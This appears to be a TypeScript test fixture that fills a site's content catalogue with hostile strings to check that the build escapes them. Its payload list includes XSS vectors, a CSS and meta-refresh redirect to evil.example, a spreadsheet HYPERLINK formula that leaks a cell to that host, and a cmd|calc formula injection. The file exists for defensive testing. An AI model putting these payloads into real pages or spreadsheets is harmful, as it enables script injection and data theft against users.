/**
 * A small catalogue (tests/fixtures/base/content) with hostile strings written into every text
 * field, for the property test tests/build/hostile-content.test.ts. Which fields are text comes
 * from the content model's own JSON Schemas (src/schemas/json-schema.ts): a string with no
 * pattern, format, closed list, reference or date; its maxLength caps the string. The body of each
 * entry gets the strings too, as headings, paragraphs, a Callout title and a Figure caption
 * (written as character references, so that the MDX stays valid and the text arrives as it is).
 */
import { cp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { stringify } from 'yaml';
import { readEntry } from '#src/lib/frontmatter.ts';
import { readDataEntries } from '#src/lib/data-entries.ts';
import { findForbiddenCharacter } from '#src/schemas/text-safety.ts';
import { CANONICAL_FILE, DATA_COLLECTIONS, MDX_COLLECTIONS } from '#src/schemas/collections.ts';
import { editorJsonSchema } from '#src/schemas/json-schema.ts';

export const FIXTURE_CONTENT = 'tests/fixtures/base/content';

/**
 * The payloads of issue #25's review, and their relatives. The strings are handed out in order,
 * solutions first, so the first ones land in the solution's title (which the print footer's
 * `<style>` carries) and summary (the feed's description, a CSV cell).
 */
export const HOSTILE_CORPUS = [
  '</style><meta http-equiv=refresh content=0;url=https://evil.example>',
  '=HYPERLINK("https://evil.example/?x="&A2,\n"Open")',
  '</style><a href=https://evil.example>x</a><img src=x onerror=alert(1)>',
  '<script src=http://127.0.0.1:9999/p.js></script>',
  '<script src=/media/x.js></script>',
  '<img src=https://evil.example/pixel.png>',
  'Main',
  '"><svg onload=alert(1)>',
  '\'"--></title></textarea></script><x>',
  ']]></description><x>',
  'javascript:alert(1)',
  '&lt;script&gt; &amp; &#60;b&#62;',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1-1',
  '-2+3\n=1',
  '\t=cmd',
  '{{constructor}} ${process} __proto__',
  '\\"; } body { background: url(https://evil.example/x) } /*',
] as const;

/** Pieces hostile strings are made of: markup, CSS, CSV and URL syntax, and ordinary letters. */
const PIECES = [
  ...['<', '>', '&', '"', "'", '/', '\\', '=', '+', '-', '@', '\t', '\n', '{', '}', ';', ':', '(', ')', '*', '#', '`', '|'],
  ...['</style>', '</script>', '<script>', '<!--', '-->', ']]>', '<![CDATA[', 'javascript:', 'data:', '&#x3c;', '&amp;', 'on', 'error='],
  ...['a', 'Z', 'é', 'ß', 'Ω', '中', '\u00a0', ' ', 'Main', 'main', 'content', 'search', '0'],
];

/** A hostile string an editor could type: no invisible character (the content check refuses those). */
export const hostileString = fc
  .array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 24 })
  .map((pieces) => pieces.join(''))
  .filter((text) => text.trim() !== '' && findForbiddenCharacter(text) === null);

interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  enum?: unknown[];
  pattern?: string;
  format?: string;
  minLength?: number;
  maxLength?: number;
  'x-reference'?: string;
  'x-date'?: string;
}

/** A field written with `text()` (src/schemas/primitives.ts): a string that must not be empty, with no stricter form. */
const isText = (schema: JsonSchema): boolean =>
  schema.type === 'string' &&
  schema.minLength !== undefined &&
  !schema.pattern &&
  !schema.format &&
  !schema.enum &&
  !schema['x-reference'] &&
  !schema['x-date'];

/** Hands out the strings in turn, trimmed and cut to a field's length. */
class Strings {
  private next = 0;
  private readonly pool: readonly string[];
  constructor(pool: readonly string[]) {
    this.pool = pool;
  }
  take(maxLength = Infinity): string {
    const text = this.pool[this.next++ % this.pool.length] ?? 'x';
    const cut = [...text.trim()].slice(0, maxLength).join('').trim();
    return cut === '' ? 'x' : cut;
  }
  /**
   * A string as MDX text: every character but letters, digits and spaces as a character reference.
   * Web addresses are broken up first (`http: //`): the gate rightly refuses an http:// link or a
   * script URL in a body, and the build would stop before there is anything to check.
   */
  takeMdx(): string {
    const text = this.take()
      .replace(/:\/\//g, ': //')
      .replace(/www\./gi, 'www .')
      .replace(/^(\s*)(javascript|vbscript|data|file):/i, '$1x $2:');
    return [...text].map((char) => (/[\p{L}\p{N} ]/u.test(char) ? char : `&#${char.codePointAt(0)};`)).join('');
  }
}

/** `data` with every text field (by its JSON Schema) replaced by the next string. */
function fill(data: unknown, schema: JsonSchema | undefined, strings: Strings): unknown {
  if (!schema) return data;
  const options = schema.anyOf ?? [schema];
  if (typeof data === 'string') {
    const text = options.find(isText);
    return text ? strings.take(text.maxLength) : data;
  }
  if (Array.isArray(data)) {
    const items = options.find((option) => option.items)?.items;
    return data.map((item) => fill(item, items, strings));
  }
  if (data !== null && typeof data === 'object') {
    const object = options.find((option) => option.properties || typeof option.additionalProperties === 'object');
    return Object.fromEntries(
      Object.entries(data).map(([key, value]) => {
        const extra = typeof object?.additionalProperties === 'object' ? object.additionalProperties : undefined;
        return [key, fill(value, object?.properties?.[key] ?? extra, strings)];
      }),
    );
  }
  return data;
}

function hostileBody(body: string, strings: Strings): string {
  return [
    body.trimEnd(),
    '',
    `## ${strings.takeMdx()}`,
    '',
    strings.takeMdx(),
    '',
    `### ${strings.takeMdx()}`,
    '',
    `<Callout kind="note" title="${strings.takeMdx()}">`,
    strings.takeMdx(),
    '</Callout>',
    '',
    `<Figure caption="${strings.takeMdx()}">`,
    `- ${strings.takeMdx()}`,
    '</Figure>',
    '',
  ].join('\n');
}

/**
 * Writes the fixture catalogue into `<root>/content` with `pool` in every text field of every
 * entry, translation and data file, and in each body.
 */
export async function writeHostileCatalogue(root: string, pool: readonly string[]): Promise<void> {
  const content = join(root, 'content');
  await rm(content, { recursive: true, force: true });
  await cp(FIXTURE_CONTENT, content, { recursive: true });
  const strings = new Strings(pool);
  for (const collection of MDX_COLLECTIONS) {
    const canonical = editorJsonSchema(collection.schema) as JsonSchema;
    const translation = editorJsonSchema(collection.translationSchema) as JsonSchema;
    const dir = join(content, collection.dir);
    for (const slug of await readdir(dir)) {
      // The canonical entry first, so its title and summary take the first strings.
      // Entries and translations only (a folder may also hold records such as sweep.yaml).
      const files = (await readdir(join(dir, slug)))
        .filter((file) => file.endsWith('.mdx'))
        .sort((a, b) => Number(b === CANONICAL_FILE) - Number(a === CANONICAL_FILE));
      for (const file of files) {
        const path = join(dir, slug, file);
        const entry = readEntry(await readFile(path, 'utf8'));
        const data = fill(entry.data, file === CANONICAL_FILE ? canonical : translation, strings);
        await writeFile(path, `---\n${stringify(data)}---\n${hostileBody(entry.body, strings)}`);
      }
    }
  }
  for (const collection of DATA_COLLECTIONS) {
    const schema = editorJsonSchema(collection.schema) as JsonSchema;
    for (const entry of await readDataEntries(join(content, collection.dir)))
      await writeFile(entry.path, stringify(fill(entry.data, schema, strings)));
  }
}
